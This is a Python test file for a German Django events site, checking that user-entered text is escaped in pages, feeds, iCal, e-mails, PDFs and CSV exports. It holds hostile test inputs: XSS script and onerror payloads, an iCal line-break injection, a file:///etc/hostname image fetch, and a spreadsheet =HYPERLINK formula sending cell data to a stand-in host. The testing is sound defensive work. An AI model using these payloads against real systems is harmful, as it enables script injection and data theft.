"""XSS: a payload in every free-text field comes out escaped (or sanitised) on public pages, back
office pages, the Atom and iCal feeds, JSON-LD and e-mails."""

import html
import json
import re

import icalendar
import pytest
from django.db import models
from django.test import Client

from accounts.testing import login_with_second_factor, make_user
from directory.testing import make_agency
from events.models import AgendaItem, Event
from events.testing import make_event, make_partner, make_topic
from mail.models import OutboxMessage
from network.testing import make_initiative
from registrations.testing import register
from tests.security.crawl import crawl

pytestmark = pytest.mark.django_db

PAYLOAD = "\"'><script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)></script>"
ICAL_BREAKOUT = "Zeile\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Gefälscht"
DANGEROUS = [re.compile(p, re.I) for p in (r"<script>alert", r"<img[^>]+onerror", r"<svg[^>]+onload")]
SKIP_FIELDS = {"slug", "code", "byday", "language", "status", "kind", "search_text", "latitude", "longitude"}


def poison(instance):
    """Write the payload into every free-text field of one row (cut to the field's length)."""
    for field in instance._meta.concrete_fields:
        if not isinstance(field, models.CharField | models.TextField) or field.choices or field.name in SKIP_FIELDS:
            continue
        if isinstance(field, models.EmailField | models.URLField | models.SlugField):
            continue
        setattr(instance, field.name, PAYLOAD[: field.max_length] if field.max_length else PAYLOAD)
    instance.save()
    return instance


def assert_escaped(where, text):
    for pattern in DANGEROUS:
        assert not pattern.search(text), f"{where}: unescaped payload {pattern.pattern}"
    for block in re.findall(r'<script type="application/ld\+json">(.*?)</script>', text, re.S):
        json.loads(block)  # the JSON-LD block is intact: the payload did not end it early
        assert "</" not in block, f"{where}: '</' inside JSON-LD"


@pytest.fixture
def poisoned():
    topic = poison(make_topic(slug="xss", name="Thema"))
    partner = poison(make_partner(name="Partner XSS"))
    event = make_event(title="Titel", topics=[topic], partners=[partner])
    for related in (event.venue, event.contact):
        poison(related)
    AgendaItem.objects.create(event=event, time="10:00", title=PAYLOAD)
    event = poison(event)
    event.refresh_search_text()
    past = poison(make_event(title="Vergangen", days_ahead=-20))
    initiative = poison(make_initiative())
    agency = make_agency()
    for row in [agency, agency.organization, *agency.organization.locations.all()]:
        poison(row)
    return {"event": Event.objects.get(pk=event.pk), "past": past, "initiative": initiative, "agency": agency}


def test_public_pages_escape_the_payload(poisoned):
    starts = ["/", "/veranstaltungen/", "/veranstaltungen/archiv/", "/karte/", "/initiativen/", "/wegweiser/"]
    starts += ["/wegweiser/?ort=Pirna", poisoned["event"].get_absolute_url(), "/en/veranstaltungen/"]
    starts += [f"/initiativen/{poisoned['initiative'].slug}/", f"/wegweiser/angebote/{poisoned['agency'].pk}/"]
    pages = 0
    for path, response, page in crawl(Client(), starts, limit=80):
        if page is not None:
            assert_escaped(path, response.content.decode())
            pages += 1
    assert pages > 15
    detail = Client().get(poisoned["event"].get_absolute_url()).content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in detail  # shown as text, not dropped


def test_back_office_pages_escape_the_payload(poisoned):
    client = Client()
    login_with_second_factor(client, make_user("admin", is_staff=True, is_superuser=True))
    starts = ["/team/", "/team/veranstaltungen/", f"/team/veranstaltungen/{poisoned['event'].pk}/",
              f"/team/veranstaltungen/{poisoned['event'].pk}/bearbeiten/", "/team/initiativen/",
              f"/team/initiativen/{poisoned['initiative'].pk}/"]  # fmt: skip
    pages = 0
    for path, response, page in crawl(client, starts, limit=40):
        if page is not None and not path.startswith("/konto/abmelden"):
            assert_escaped(path, response.content.decode())
            pages += 1
    assert pages >= 5


def test_atom_feed_escapes_the_payload(poisoned):
    raw = Client().get("/veranstaltungen/feed.atom").content.decode()
    assert "<script>" not in raw
    # What a feed reader renders: the unescaped text of each element, which must be harmless HTML.
    for element in re.findall(r"<(?:content|summary)[^>]*>(.*?)</(?:content|summary)>", raw, re.S):
        assert_escaped("atom content", html.unescape(element))


def test_ical_cannot_be_broken_out_of(poisoned):
    event = poisoned["event"]
    event.summary = ICAL_BREAKOUT
    event.save()
    for url in ["/veranstaltungen/kalender.ics", f"{event.get_absolute_url()}kalender.ics"]:
        calendar = icalendar.Calendar.from_ical(Client().get(url).content)
        events = list(calendar.walk("VEVENT"))
        assert [str(e["SUMMARY"]) for e in events].count("Gefälscht") == 0
        ours = [e for e in events if str(e["SUMMARY"]) == event.title]
        assert len(ours) == 1


def test_e_mails_escape_the_payload_in_their_html_part():
    event = make_event(title="Schulung", days_ahead=30)
    register(event, name=PAYLOAD[:200], organisation=PAYLOAD[:200], email="xss@example.org")
    messages = OutboxMessage.objects.filter(to="xss@example.org")
    assert messages.exists()
    for message in messages:
        assert_escaped(f"mail {message.template}", message.html)
        assert "<script" not in message.subject


def test_personal_page_escapes_what_the_person_typed():
    from registrations.tokens import personal_token

    registration = register(make_event(days_ahead=30), name=PAYLOAD[:200], accessibility_needs=PAYLOAD)
    for url in [
        f"/anmeldung/{personal_token(registration)}/",
        f"/datenschutz/meine-daten/{personal_token(registration)}/",
    ]:
        assert_escaped(url, Client().get(url).content.decode())


def test_pdfs_show_the_payload_as_text_and_fetch_nothing():
    """Attendance list and certificate: markup typed by a person is printed, not interpreted (an
    interpreted <img src=file:…> would let a registration read files of the server)."""
    from io import BytesIO

    from pypdf import PdfReader

    from documents.services import attendance_list_pdf, certificate_for
    from registrations.models import Booking

    event = make_event(title="Schulung <b>fett</b>", days_ahead=30)
    name = '<script>alert(1)</script><img src="file:///etc/hostname">'
    registration = register(event, name=name, organisation="<i>Initiative</i>", attended=True)
    booking = Booking.objects.get(registration=registration)
    for pdf in (attendance_list_pdf(event), certificate_for(booking)):
        text = "".join(page.extract_text() for page in PdfReader(BytesIO(pdf)).pages)
        assert "<script>alert(1)</script>" in text
        assert "<b>fett</b>" in text


def test_exports_keep_formulas_typed_by_a_person_as_text():
    """CSV/XLSX participant exports: a cell like =HYPERLINK(…) must not run in a spreadsheet."""
    import csv
    import io

    from participants.exports import as_csv
    from registrations.models import Booking

    event = make_event(days_ahead=30)
    register(event, name='=HYPERLINK("http://angriff.example/?"&A1;"Klick")', organisation="+49 Initiative")
    rows = list(csv.reader(io.StringIO(as_csv(Booking.objects.filter(event=event)).decode("utf-8-sig")), delimiter=";"))
    assert rows[1][1].startswith("'=HYPERLINK") and rows[1][4] == "'+49 Initiative"
